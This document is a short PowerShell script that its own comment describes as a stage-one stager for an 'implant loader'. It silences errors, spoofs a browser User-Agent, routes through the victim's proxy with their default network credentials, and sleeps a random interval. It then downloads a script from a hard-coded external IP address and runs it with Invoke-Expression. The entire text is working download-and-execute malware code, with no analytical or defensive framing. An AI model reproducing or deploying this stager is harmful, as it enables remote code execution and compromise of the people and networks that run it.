# stage 1 - pulls the implant loader through the user's proxy
$ErrorActionPreference = 'SilentlyContinue'
$u = 'http://185.220.101.47/a/update.ps1'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$wc.Proxy = [System.Net.WebRequest]::DefaultWebProxy
$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials
Start-Sleep -Seconds (Get-Random -Minimum 5 -Maximum 30)
$payload = $wc.DownloadString($u)
Invoke-Expression $payload
